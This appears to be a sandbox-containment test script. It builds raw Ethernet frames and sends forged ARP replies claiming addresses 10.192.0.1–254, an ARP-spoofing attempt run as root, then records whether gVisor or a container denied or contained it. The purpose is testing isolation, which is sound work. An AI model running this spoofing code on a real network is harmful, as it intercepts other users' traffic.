# tries: Answer ARP requests in the name of the gateway, to have others' packets sent to it.
# user: root
# gvisor: denied or contained: its cable has two ends only
# container: denied
import socket
import struct

from verdict import contained, denied

try:
    talk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    talk.bind(("eth0", 0))
    frame = b"\xff" * 6 + b"\x02\0\0\0\0\1" + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2)
    for last in range(1, 255):
        talk.send(frame + b"\x02\0\0\0\0\1" + bytes([10, 192, 0, last]) + b"\xff" * 6 + bytes(4))
except OSError as error:
    denied(error.strerror)
contained("sent on a cable whose other end is the host alone")
